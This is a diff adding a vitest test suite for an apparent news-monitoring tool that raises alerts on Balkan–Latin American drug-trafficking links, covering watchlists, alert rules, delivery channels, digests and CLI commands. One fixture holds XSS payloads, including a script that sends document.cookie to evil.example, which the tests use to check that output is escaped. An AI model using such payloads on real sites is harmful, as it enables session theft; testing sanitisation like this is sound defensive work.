@@ -1,0 +1,456 @@
+// Watchlists, alert rules, delivery (real SMTP server, real HTTP receivers),
+// the Atom feed, daily digests and crash safety of the outbox.
+import { spawn } from 'node:child_process';
+import { createServer, type IncomingMessage, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { hostname } from 'node:os';
+import { join } from 'node:path';
+import * as cheerio from 'cheerio';
+import { afterEach, describe, expect, it } from 'vitest';
+import { openDb, type Db } from '../storage/db.js';
+import { storeArticle, reviseArticle, type ArticleInput } from '../storage/articles-repo.js';
+import { upsertSources } from '../storage/sources-repo.js';
+import { importWatchlists } from '../storage/watchlists-repo.js';
+import { addSubscription, addUser } from '../storage/users-repo.js';
+import { analyze } from '../extractors/analyze.js';
+import { contentHash } from '../dedupe/content-hash.js';
+import { parseWatchlists } from '../alerts/watchlist-file.js';
+import { compileWatchlist, matchWatchlist } from '../alerts/watchlist-matcher.js';
+import { runRules } from '../alerts/run-rules.js';
+import { deliverPending } from '../alerts/deliver.js';
+import { mailerFromEnv } from '../alerts/channels/email.js';
+import { localClock, queueDueDigests } from '../alerts/digest.js';
+import { loadAlertSettings } from '../alerts/settings.js';
+import { startServer } from '../web/server.js';
+import { feedPath } from '../alerts/atom.js';
+import { jsonLines, ROOT, ruta } from './helpers/cli.js';
+import { startSmtp, type TestSmtp } from './helpers/smtp.js';
+import { tempDir } from './helpers/tmp.js';
+
+const cleanups: (() => unknown)[] = [];
+afterEach(async () => {
+  for (const c of cleanups.splice(0).reverse()) await c();
+});
+
+const WATCHLISTS = readFileSync(join(ROOT, 'config', 'watchlists.yaml'), 'utf8');
+const MAIL_FROM = 'Ruta <ruta@ruta.test>';
+// Fast retries for tests; everything else as shipped.
+const SETTINGS = { ...loadAlertSettings(), backoffMs: 60_000, publicUrl: 'http://ruta.test' };
+
+async function freshDb(): Promise<{ db: Db; path: string; dir: string }> {
+  const t = tempDir();
+  cleanups.push(t.cleanup);
+  const path = join(t.dir, 'ruta.db');
+  const db = await openDb(path);
+  cleanups.push(() => db.$disconnect());
+  await upsertSources(db, ['el-litoral', 'vijesti', 'night-desk'].map((id) => ({ id, name: id, url: `https://${id}.example/feed`, kind: 'rss', language: 'en', country: 'EC', schedule: '*/30 * * * *', render: false, enabled: true, config: {} })));
+  await importWatchlists(db, parseWatchlists(WATCHLISTS, 'config/watchlists.yaml'));
+  return { db, path, dir: t.dir };
+}
+
+/** An article as the crawler stores it: analysed by the real extractors. */
+function article(sourceId: string, slug: string, title: string, text: string, published = '2026-11-20T08:00:00Z'): ArticleInput {
+  const a = analyze({ text, title });
+  return {
+    sourceId, url: `https://${sourceId}.example/${slug}`, fetchedUrl: `https://${sourceId}.example/${slug}`, title, author: null, published: new Date(published),
+    lang: a.lang, script: a.script, langConfidence: a.langConfidence, text, contentHash: contentHash(text),
+    entities: a.entities.map(({ type, text, start, end, canonical, side }) => ({ type, text, start, end, canonical, side })),
+    seizures: a.seizures, links: a.links,
+  };
+}
+
+const FIRST = {
+  title: 'Cocaine seized in Guayaquil was organised by the Kavač clan',
+  text:
+    'Ecuadorian police seized 2.3 tonnes of cocaine in the port of Guayaquil on Monday. Investigators said the shipment was organised by the Kavač clan, a Montenegrin group. ' +
+    'The container, loaded with bananas, was bound for Antwerp. Prosecutors in Guayaquil said the Kavač clan had used the same exporter before.',
+};
+const FOLLOW_UP = {
+  title: 'Kavač clan cocaine shipment from Guayaquil: arrest in Quito',
+  text:
+    'Ecuadorian police seized 2.3 tonnes of cocaine in the port of Guayaquil on Monday, organised by the Kavač clan, a Montenegrin group. ' +
+    'Prosecutors now say the Kavač clan used the port of Guayaquil and also Puerto Bolívar. Police arrested Goran Marković, a Serbian national, in Quito.',
+};
+const HOSTILE = {
+  title: '<script>alert("x")</script> Kavač clan moved cocaine through Callao',
+  text:
+    'Peruvian police said the Kavač clan <img src=x onerror=alert(1)> moved cocaine through the port of Callao. <script>document.location="https://evil.example/?"+document.cookie</script> ' +
+    'Officers seized 450 kilograms of cocaine in Callao on Friday, hidden in a shipment of coffee.',
+};
+
+async function receiver(status: (n: number) => number = () => 200) {
+  const got: { headers: IncomingMessage['headers']; body: string }[] = [];
+  const server: Server = createServer((req, res) => {
+    let body = '';
+    req.on('data', (d) => (body += d));
+    req.on('end', () => {
+      got.push({ headers: req.headers, body });
+      res.statusCode = status(got.length);
+      res.end('ok');
+    });
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
+  cleanups.push(() => new Promise((r) => server.close(() => r(undefined))));
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`, got };
+}
+
+async function smtp(): Promise<TestSmtp> {
+  const s = await startSmtp();
+  cleanups.push(() => s.close());
+  return s;
+}
+
+describe('watchlist matching', () => {
+  const list = compileWatchlist(
+    parseWatchlists(WATCHLISTS).flatMap((w, i) =>
+      w.entries.map((e, k) => ({ id: i * 100 + k, watchlist: w.name, name: e.name, type: e.type, side: e.side ?? 'other', aliases: e.aliases ?? [], languages: e.languages ?? [], negativeTerms: e.negative ?? [], enabled: true })),
+    ),
+  );
+  const names = (text: string, lang = 'sr') => matchWatchlist(list, text, lang).map((h) => `${h.entry.name}=${h.text}`);
+
+  it('finds names and aliases in both scripts, without diacritics and in inflected forms', () => {
+    expect(names('Pripadnici Kavačkog klana uhapšeni su u luci Gvajakil.')).toEqual(['Kavač clan=Kavačkog klana', 'Guayaquil=Gvajakil']);
+    expect(names('Припадници Кавачког клана ухапшени су у Гвајакилу.')).toEqual(['Kavač clan=Кавачког клана', 'Guayaquil=Гвајакилу']);
+    expect(names('pripadnici kavackog klana')).toEqual(['Kavač clan=kavackog klana']);
+    expect(names('El cártel de los Balcanes opera en Guayaquil.', 'es')).toEqual(['Balkan cartel=cártel de los Balcanes', 'Guayaquil=Guayaquil']);
+  });
+
+  it('a negative term in the sentence suppresses the match, and other sentences still count', () => {
+    expect(names('Santos FC won the derby at Vila Belmiro.', 'en')).toEqual([]);
+    const hits = matchWatchlist(list, 'Santos FC won again. Police found cocaine in a container at the port of Santos.', 'en');
+    expect(hits.map((h) => h.sentence)).toEqual(['Police found cocaine in a container at the port of Santos.']);
+  });
+
+  it('does not match a name inside a longer word, or an entry restricted to other languages', () => {
+    expect(names('Santosa je rekla da…')).toEqual(['Santos=Santosa']); // inflected: counts
+    expect(names('The Callaonian team', 'en')).toEqual([]); // not an ending, a different word
+    const onlyEs = compileWatchlist([{ id: 1, watchlist: 'x', name: 'Callao', type: 'port', side: 'latam', aliases: [], languages: ['es'], negativeTerms: [], enabled: true }]);
+    expect(matchWatchlist(onlyEs, 'Port of Callao', 'en')).toEqual([]);
+    expect(matchWatchlist(onlyEs, 'Puerto del Callao', 'es')).toHaveLength(1);
+  });
+});
+
+describe('alert rules', () => {
+  it('each rule fires on what is new, once, with evidence, entities and story; nothing new means no alert', async () => {
+    const { db } = await freshDb();
+    const first = await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
+    expect(first.status).toBe('stored');
+    const r1 = await runRules(db, { seizureKg: 100 });
+    expect(r1.byRule).toMatchObject({ 'balkan-latam-link': 1, 'seizure-threshold': 1, 'link-new-place': 0, 'link-story-person': 0 });
+    const alerts1 = await db.alert.findMany({ orderBy: { id: 'asc' } });
+    const byRule = (rule: string) => alerts1.filter((a) => a.rule === rule);
+    expect(byRule('watchlist-hit').map((a) => JSON.parse(a.entities)[0]).sort()).toEqual(['Guayaquil', 'Kavač clan']);
+    expect(byRule('balkan-latam-link')[0]).toMatchObject({ severity: 'high', reason: 'New Balkan–Latin America link: Kavač clan – Guayaquil' });
+    expect(byRule('seizure-threshold')[0]).toMatchObject({ severity: 'critical' });
+    // The parties named in the seizure's own sentence.
+    expect(byRule('seizure-threshold')[0]!.reason).toBe('Seizure of 2.3 t cocaine with a Latin American side: National Police of Ecuador, Guayaquil');
+    for (const a of alerts1) {
+      expect(a.evidence && `${FIRST.title}\n${FIRST.text}`.includes(a.evidence.replace(/…$/, ''))).toBeTruthy();
+      expect(a.storyId).toBe(first.status === 'stored' ? first.storyId : -1);
+      expect(JSON.parse(a.entities).length).toBeGreaterThan(0);
+    }
+    // The watermark: nothing new, nothing fires.
+    expect((await runRules(db)).total).toBe(0);
+
+    // Another outlet's follow-up in the same story: a new port for a known link, a new person; the
+    // watchlist entries already alerted for this story stay quiet.
+    const second = await storeArticle(db, article('night-desk', 'kavac-arrest-quito', FOLLOW_UP.title, FOLLOW_UP.text, '2026-11-21T09:00:00Z'));
+    expect(second.status === 'stored' && second.storyId).toBe(first.status === 'stored' && first.storyId);
+    const r2 = await runRules(db, { seizureKg: 100 });
+    expect(r2.byRule['watchlist-hit']).toBe(1); // Puerto Bolívar, new to the story
+    expect(r2.byRule['seizure-threshold']).toBe(0); // the same 2.3 t in the same story
+    const place = await db.alert.findFirstOrThrow({ where: { rule: 'link-new-place' } });
+    expect(place.reason).toBe('Known link Kavač clan – Guayaquil reported in a new port: Puerto Bolívar');
+    expect(place.evidence).toContain('Puerto Bolívar');
+    const person = await db.alert.findFirstOrThrow({ where: { rule: 'link-story-person' } });
+    expect(person).toMatchObject({ reason: 'New person in a Balkan–Latin America link story: Goran Marković' });
+    expect(person.evidence).toContain('Goran Marković');
+
+    // A revision that only adds a line: the story's alerts do not repeat.
+    const before = await db.alert.count();
+    const rev = await reviseArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, `${FIRST.text} The investigation continues.`));
+    expect(rev.status).toBe('revised');
+    expect((await db.articleChange.findMany({ where: { articleId: rev.articleId } })).map((c) => c.kind)).toEqual(['new', 'revised']);
+    expect((await runRules(db)).total).toBe(0);
+    expect(await db.alert.count()).toBe(before);
+  });
+});
+
+describe('delivery', () => {
+  async function setup() {
+    const d = await freshDb();
+    const mail = await smtp();
+    const hook = await receiver();
+    const slack = await receiver();
+    const u = await addUser(d.db, { email: 'Analyst@Ruta.test', role: 'analyst', timezone: 'Europe/Belgrade' });
+    await addSubscription(d.db, { userId: u.id, channel: 'email', mode: 'immediate', minSeverity: 'high' });
+    await addSubscription(d.db, { userId: u.id, channel: 'webhook', target: hook.url, rules: ['balkan-latam-link'] });
+    await addSubscription(d.db, { userId: u.id, channel: 'slack', target: slack.url, rules: ['balkan-latam-link'] });
+    await addSubscription(d.db, { userId: u.id, channel: 'atom', rules: ['balkan-latam-link', 'watchlist-hit'] });
+    const mailer = mailerFromEnv({ RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM });
+    return { ...d, mail, hook, slack, user: u, mailer };
+  }
+
+  it('sends mail, webhooks and Slack text once; markup and script from a page arrive as inert text; the Atom feed too', async () => {
+    const { db, mail, hook, slack, user, mailer } = await setup();
+    await storeArticle(db, article('el-litoral', 'callao', HOSTILE.title, HOSTILE.text));
+    await runRules(db, { seizureKg: 100 });
+    const high = await db.alert.findMany({ where: { severity: { in: ['high', 'critical'] } } });
+    expect(high.length).toBeGreaterThan(0);
+    const rep = await deliverPending(db, { mailer, settings: SETTINGS });
+    expect(rep).toMatchObject({ failed: 0, inDoubt: 0, retrying: 0 });
+    expect(mail.messages).toHaveLength(high.length);
+    for (const m of mail.messages) {
+      expect(m.to && 'text' in m.to ? m.to.text : '').toBe('analyst@ruta.test');
+      expect(m.from?.value[0]).toMatchObject({ name: 'Ruta', address: 'ruta@ruta.test' });
+      expect(m.messageId).toMatch(/^<ruta\.[0-9a-f]{32}@ruta\.test>$/);
+      const html = String(m.html);
+      expect(html).not.toMatch(/<script|<img/i);
+      const $ = cheerio.load(html);
+      expect($('script, img').length).toBe(0);
+      expect($('*').toArray().flatMap((el) => Object.keys((el as { attribs?: Record<string, string> }).attribs ?? {})).filter((k) => k.startsWith('on'))).toEqual([]);
+      expect($('a').toArray().every((a) => /^https?:/.test($(a).attr('href') ?? ''))).toBe(true);
+    }
+    const linkMail = mail.messages.find((m) => m.subject?.includes('New Balkan–Latin America link'))!;
+    expect(linkMail.subject).toMatch(/^\[Ruta\] High: New Balkan–Latin America link: Kavač clan – Callao/);
+    expect(linkMail.text).toContain('Kavač clan');
+    expect(cheerio.load(String(linkMail.html))('body').text()).toContain('<script>alert("x")</script>'); // shown as text
+
+    expect(hook.got).toHaveLength(1);
+    const body = JSON.parse(hook.got[0]!.body);
+    expect(body).toMatchObject({ type: 'alert', alert: { rule: 'balkan-latam-link', severity: 'high', entities: ['Kavač clan', 'Callao'] } });
+    expect(body.alert.article.title).toBe(HOSTILE.title);
+    expect(hook.got[0]!.headers['idempotency-key']).toBe(body.delivery);
+    expect(slack.got).toHaveLength(1);
+    const text = JSON.parse(slack.got[0]!.body).text as string;
+    expect(text).toContain('&lt;script&gt;');
+    expect(text).not.toContain('<script');
+
+    // Nothing is sent twice.
+    expect((await deliverPending(db, { mailer, settings: SETTINGS })).sent).toBe(0);
+    expect(mail.messages).toHaveLength(high.length);
+    expect(hook.got).toHaveLength(1);
+
+    // The Atom feed: the user's token, the subscribed rules, inert text.
+    const server = await startServer(db, { port: 0 });
+    cleanups.push(() => server.close());
+    const res = await fetch(`http://127.0.0.1:${server.port}${feedPath(user.feedToken)}`);
+    expect(res.headers.get('content-type')).toContain('application/atom+xml');
+    const xmlText = await res.text();
+    expect(xmlText).not.toMatch(/<script|<img/i);
+    const $ = cheerio.load(xmlText, { xml: true });
+    const wanted = await db.alert.count({ where: { rule: { in: ['balkan-latam-link', 'watchlist-hit'] } } });
+    expect($('entry').length).toBe(wanted);
+    expect($('entry title').first().text()).toMatch(/^(High|Medium|Low|Critical): /);
+    expect($('entry summary').text()).toContain('<script>alert("x")</script>');
+    expect((await fetch(`http://127.0.0.1:${server.port}/feeds/not-a-real-token-at-all/alerts.atom`)).status).toBe(404);
+  });
+
+  it('retries refused and failed sends with backoff, and gives up on a rejected target', async () => {
+    const { db } = await freshDb();
+    const flaky = await receiver((n) => (n === 1 ? 503 : 200));
+    const gone = await receiver(() => 404);
+    const closed = await receiver();
+    cleanups.pop()!(); // its server closes: nothing listens on that port
+    await new Promise((r) => setTimeout(r, 50));
+    const u = await addUser(db, { email: 'hooks@ruta.test', role: 'analyst', digest: false });
+    await addSubscription(db, { userId: u.id, channel: 'webhook', target: flaky.url, rules: ['balkan-latam-link'] });
+    await addSubscription(db, { userId: u.id, channel: 'webhook', target: gone.url, rules: ['balkan-latam-link'] });
+    await addSubscription(db, { userId: u.id, channel: 'webhook', target: closed.url, rules: ['balkan-latam-link'] });
+    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
+    await runRules(db);
+    const r1 = await deliverPending(db, { mailer: null, settings: SETTINGS });
+    expect(r1).toMatchObject({ sent: 0, retrying: 2, failed: 1, inDoubt: 0 });
+    const rows = await db.delivery.findMany({ orderBy: { id: 'asc' } });
+    expect(rows.map((r) => r.status)).toEqual(['pending', 'failed', 'pending']);
+    expect(rows[0]!.nextAttemptAt.getTime()).toBeGreaterThan(Date.now() + 30_000);
+    expect(rows[1]!.lastError).toMatch(/answered 404.*fix the subscription target/);
+    expect(rows[2]!.lastError).toMatch(/cannot reach http:\/\/127\.0\.0\.1:\d+\/hook: ECONNREFUSED/);
+    // Not due yet: nothing happens.
+    expect((await deliverPending(db, { mailer: null, settings: SETTINGS })).sent).toBe(0);
+    await db.delivery.updateMany({ data: { nextAttemptAt: new Date(Date.now() - 1000) } });
+    const r2 = await deliverPending(db, { mailer: null, settings: SETTINGS });
+    expect(r2).toMatchObject({ sent: 1, retrying: 1 });
+    expect(flaky.got.map((g) => g.headers['idempotency-key'])).toEqual([rows[0]!.idempotencyKey, rows[0]!.idempotencyKey]);
+    expect(gone.got).toHaveLength(1);
+    expect((await db.delivery.findUniqueOrThrow({ where: { id: rows[2]!.id } })).attempts).toBe(2);
+  });
+
+  it('a sender killed between sending and recording never sends twice; one killed before sending is resumed', async () => {
+    const { db, path, mail } = await setup();
+    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
+    await runRules(db);
+    const emails = await db.delivery.findMany({ where: { channel: 'email' }, orderBy: { id: 'asc' } });
+    expect(emails.length).toBeGreaterThanOrEqual(2);
+    await db.$disconnect();
+    const env = { ...process.env, RUTA_DB: path, RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM };
+
+    // The server has the whole first message; before it answers, the sender process is killed.
+    const child = spawn(process.execPath, [join(ROOT, 'bin', 'ruta.js'), 'deliveries', 'run'], { cwd: ROOT, env, stdio: 'ignore' });
+    const exited = new Promise<NodeJS.Signals | null>((r) => child.on('exit', (_c, sig) => r(sig)));
+    mail.onMessage = () => {
+      child.kill('SIGKILL');
+      mail.onMessage = undefined;
+    };
+    expect(await exited).toBe('SIGKILL');
+    expect(mail.messages).toHaveLength(1);
+
+    // A restart sends the rest, and not the one in doubt.
+    const again = await ruta(['deliveries', 'run'], { RUTA_DB: path, RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM });
+    expect(again.code, again.stderr).toBe(0);
+    expect(again.stderr).toMatch(/1 in doubt/);
+    expect(mail.messages).toHaveLength(emails.length);
+    expect(new Set(mail.messages.map((m) => m.messageId)).size).toBe(emails.length);
+    const list = jsonLines((await ruta(['deliveries', 'list', '--json'], { RUTA_DB: path })).stdout);
+    const emailRows = list.filter((d) => d.channel === 'email');
+    expect(emailRows.filter((d) => d.status === 'unknown')).toHaveLength(1);
+    expect(emailRows.filter((d) => d.status === 'sent')).toHaveLength(emails.length - 1);
+    expect(String(emailRows.find((d) => d.status === 'unknown')!.lastError)).toMatch(/may have it.*ruta deliveries retry \d+/);
+    // Run again: still nothing twice.
+    await ruta(['deliveries', 'run'], { RUTA_DB: path, RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM });
+    expect(mail.messages).toHaveLength(emails.length);
+
+    // A sender that died after claiming but before transmitting: the delivery goes out once on restart.
+    const db2 = await openDb(path);
+    cleanups.push(() => db2.$disconnect());
+    const dead = spawn(process.execPath, ['-e', '0']);
+    const deadPid = await new Promise<number>((r) => dead.on('exit', () => r(dead.pid!)));
+    const sent = emailRows.find((d) => d.status === 'sent')!;
+    await db2.delivery.update({ where: { id: sent.id as number }, data: { status: 'sending', heldBy: `${hostname()}:${deadPid}`, leaseUntil: new Date(Date.now() + 3600_000) } });
+    const rep = await deliverPending(db2, { mailer: mailerFromEnv({ RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM }), settings: SETTINGS });
+    expect(rep).toMatchObject({ requeued: 1, sent: 1 });
+    expect(mail.messages).toHaveLength(emails.length + 1);
+  }, 60_000);
+});
+
+describe('daily digest', () => {
+  it('goes out at the user’s local hour, once a day, with links, stories, seizures, hits and broken sources; no item twice', async () => {
+    const { db, path, dir } = await freshDb();
+    const mail = await smtp();
+    const tz = 'America/Guayaquil';
+    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
+    await db.source.update({ where: { id: 'vijesti' }, data: { lastRunAt: new Date(), lastErrorAt: new Date(), lastError: 'HTTP 503 from https://vijesti.example/feed' } });
+    await runRules(db);
+    const now = new Date();
+    const hour = localClock(tz, now).hour;
+    await addUser(db, { email: 'researcher@ruta.test', role: 'researcher', timezone: tz, digestHour: hour });
+
+    // An hour before the user's digest hour: nothing.
+    expect(await queueDueDigests(db, new Date(now.getTime() - 3600_000 - now.getMinutes() * 60_000))).toBe(hour === 0 ? 1 : 0);
+    await db.digest.deleteMany();
+    expect(await queueDueDigests(db, now)).toBe(1);
+    expect(await queueDueDigests(db, now)).toBe(0); // the day's slot is taken
+    const rep = await deliverPending(db, { mailer: mailerFromEnv({ RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM }), settings: SETTINGS });
+    expect(rep.sent).toBe(1);
+    const m = mail.messages[0]!;
+    expect(m.subject).toMatch(new RegExp(`^\\[Ruta\\] Daily digest ${localClock(tz, now).date}: 1 new link\\(s\\), 1 stories, 1 seizure\\(s\\), 2 watchlist hit\\(s\\)`));
+    const $ = cheerio.load(String(m.html));
+    const sections = $('h2').toArray().map((h) => $(h).text());
+    expect(sections).toEqual(['New Balkan–Latin America links (1)', 'New stories (1)', 'Largest seizures (1)', 'Watchlist hits (2)', 'Other alerts (2)', 'Sources that went silent or broke (1)']);
+    expect($('blockquote').first().text()).toContain('organised by the Kavač clan');
+    expect(m.text).toContain('HTTP 503 from https://vijesti.example/feed');
+    expect(m.text).toContain('https://el-litoral.example/guayaquil-kavac');
+
+    // Next day: only what is new since.
+    await storeArticle(db, article('night-desk', 'callao', 'Kavač clan moved cocaine through Callao', 'Peruvian police said the Kavač clan moved cocaine through the port of Callao. Officers seized 450 kilograms of cocaine in Callao.'));
+    await runRules(db);
+    const tomorrow = new Date(now.getTime() + 86400_000);
+    expect(await queueDueDigests(db, tomorrow)).toBe(1);
+    const [first, second] = await db.digest.findMany({ orderBy: { id: 'asc' }, include: { items: true } });
+    const k1 = first!.items.map((i) => i.itemKey);
+    const k2 = second!.items.map((i) => i.itemKey);
+    expect(k2.length).toBeGreaterThan(0);
+    expect(k2.filter((k) => k1.includes(k))).toEqual([]);
+    expect(second!.html).toContain('Kavač clan – Callao');
+    expect(second!.html).not.toContain('Kavač clan – Guayaquil');
+
+    // The CLI: preview writes a file and prints its path; send sends now.
+    await db.$disconnect();
+    const env = { RUTA_DB: path, RUTA_SMTP_URL: mail.url, RUTA_MAIL_FROM: MAIL_FROM };
+    const prev = await ruta(['digest', 'preview', '--user', 'researcher@ruta.test'], env);
+    expect(prev.code, prev.stderr).toBe(0);
+    const file = prev.stdout.trim();
+    expect(file.startsWith(dir)).toBe(true);
+    expect(existsSync(file) && readFileSync(file, 'utf8')).toMatch(/^<!doctype html>/);
+    const sent = await ruta(['digest', 'send', '--user', 'researcher@ruta.test'], env);
+    expect(sent.stderr).toMatch(/nothing new for researcher@ruta\.test/); // everything went out in the two digests
+    expect(sent.code).toBe(0);
+    expect((await ruta(['digest', 'send', '--user', 'nobody@ruta.test'], env)).stderr).toMatch(/no user nobody@ruta\.test/);
+  }, 60_000);
+});
+
+describe('users and watchlists on the command line', () => {
+  it('adds users with a password from stdin and lists them; rejects a bad timezone clearly', async () => {
+    const t = tempDir();
+    cleanups.push(t.cleanup);
+    const env = { RUTA_DB: join(t.dir, 'ruta.db') };
+    const add = await ruta(['users', 'add', '--email', 'ed@ruta.test', '--role', 'editor', '--timezone', 'Europe/Podgorica', '--password-stdin'], env, 'correct horse battery\n');
+    expect(add.code, add.stderr).toBe(0);
+    const bad = await ruta(['users', 'add', '--email', 'x@ruta.test', '--role', 'editor', '--timezone', 'Mars/Olympus'], env);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toMatch(/"Mars\/Olympus" is not a known timezone/);
+    expect((await ruta(['users', 'add', '--email', 'ed@ruta.test', '--role', 'editor'], env)).stderr).toMatch(/already exists/);
+    const users = jsonLines((await ruta(['users', 'list', '--json'], env)).stdout);
+    expect(users).toHaveLength(1);
+    expect(users[0]).toMatchObject({ email: 'ed@ruta.test', role: 'editor', timezone: 'Europe/Podgorica', hasPassword: true, subscriptions: [{ channel: 'email', mode: 'digest' }] });
+    expect(users[0]!.feedUrl).toMatch(/^http:\/\/localhost:8080\/feeds\/[A-Za-z0-9_-]{32}\/alerts\.atom$/);
+    const sub = await ruta(['subscriptions', 'add', '--user', 'ed@ruta.test', '--channel', 'webhook', '--rules', 'no-such-rule', '--target', 'https://hooks.example/x'], env);
+    expect(sub.code).toBe(2);
+    expect(sub.stderr).toMatch(/unknown rule\(s\) no-such-rule; rules are watchlist-hit, balkan-latam-link/);
+  });
+
+  it('export, edit, preview (saves nothing), import (audited), with owners', async () => {
+    const { db, path, dir } = await freshDb();
+    await addUser(db, { email: 'editor@ruta.test', role: 'editor' });
+    await storeArticle(db, article('el-litoral', 'guayaquil-kavac', FIRST.title, FIRST.text));
+    await storeArticle(db, article('vijesti', 'skaljari', 'Škaljari clan and Santos', 'Police in Brazil said members of the Škaljari clan used the port of Santos to ship cocaine to Europe.'));
+    await db.$disconnect();
+    const env = { RUTA_DB: path };
+    const file = join(dir, 'lists.yaml');
+    const exp = await ruta(['watchlist', 'export', file], env);
+    expect(exp.code, exp.stderr).toBe(0);
+    const exported = parseWatchlists(readFileSync(file, 'utf8'));
+    expect(exported.map((w) => w.name)).toEqual(['Balkan clans', 'Departure ports']);
+
+    // Edit: drop Guayaquil, add Antwerp, give Santos an alias, set an owner.
+    const ports = exported.find((w) => w.name === 'Departure ports')!;
+    ports.owner = 'editor@ruta.test';
+    ports.entries = ports.entries.filter((e) => e.name !== 'Guayaquil');
+    ports.entries.push({ name: 'Antwerp', type: 'port', side: 'europe', aliases: ['Antwerpen', 'Amberes'] });
+    ports.entries.find((e) => e.name === 'Santos')!.aliases = ['Porto de Santos'];
+    const { stringifyWatchlists } = await import('../alerts/watchlist-file.js');
+    writeFileSync(file, stringifyWatchlists([ports]));
+
+    const prev = await ruta(['watchlist', 'preview', file, '--days', '3650', '--json'], env);
+    expect(prev.code, prev.stderr).toBe(0);
+    const lines = jsonLines(prev.stdout);
+    const arts = lines.filter((l) => l.type === 'article');
+    const guayaquilArticle = arts.find((a) => (a.url as string).includes('guayaquil-kavac'))!;
+    expect(guayaquilArticle.change).toBe('kept'); // Antwerp replaces Guayaquil for this article
+    expect(guayaquilArticle.entries).toEqual(['Antwerp']);
+    expect(arts.find((a) => (a.url as string).includes('skaljari'))).toMatchObject({ change: 'kept', entries: ['Santos'] });
+    expect(lines.find((l) => l.type === 'link')).toMatchObject({ balkan: 'Kavač clan', latam: 'Guayaquil' });
+    expect(lines.find((l) => l.type === 'summary')).toMatchObject({ scanned: 2, flagged: 2, byEntry: { Antwerp: 1, Santos: 1 } });
+    // Nothing was saved.
+    expect(parseWatchlists((await ruta(['watchlist', 'export'], env)).stdout).find((w) => w.name === 'Departure ports')!.entries.map((e) => e.name)).toContain('Guayaquil');
+    // A preview of a stored list by id.
+    const byId = jsonLines((await ruta(['watchlist', 'preview', '1', '--json'], env)).stdout);
+    expect(byId.find((l) => l.type === 'summary')).toMatchObject({ scanned: 2 });
+
+    const imp = await ruta(['watchlist', 'import', file, '--by', 'editor@ruta.test'], env);
+    expect(imp.code, imp.stderr).toBe(0);
+    expect(imp.stderr).toMatch(/1 entry added, 1 changed, 1 removed, 2 unchanged/);
+    const lists = jsonLines((await ruta(['watchlist', 'list', '--json'], env)).stdout);
+    expect(lists.find((l) => l.name === 'Departure ports')).toMatchObject({ owner: 'editor@ruta.test', entries: 4 });
+    const audit = jsonLines((await ruta(['watchlist', 'audit', 'Departure ports', '--json'], env)).stdout);
+    expect(audit[0]).toMatchObject({ action: 'import', added: ['Antwerp'], removed: [{ name: 'Guayaquil', aliases: ['Gvajakil', 'Гвајакил'] }] });
+    const badOwner = await ruta(['watchlist', 'import', file, '--owner', 'ghost@ruta.test'], env);
+    expect(badOwner.code).toBe(2);
+    expect(badOwner.stderr).toMatch(/owner ghost@ruta\.test is not a Ruta user/);
+    writeFileSync(join(dir, 'bad.yaml'), 'watchlists:\n  - name: X\n    entries:\n      - name: Y\n        type: spaceship\n');
+    const bad = await ruta(['watchlist', 'preview', join(dir, 'bad.yaml')], env);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toMatch(/entry #1 \(Y\): type "spaceship" is not one of/);
+  }, 60_000);
+});
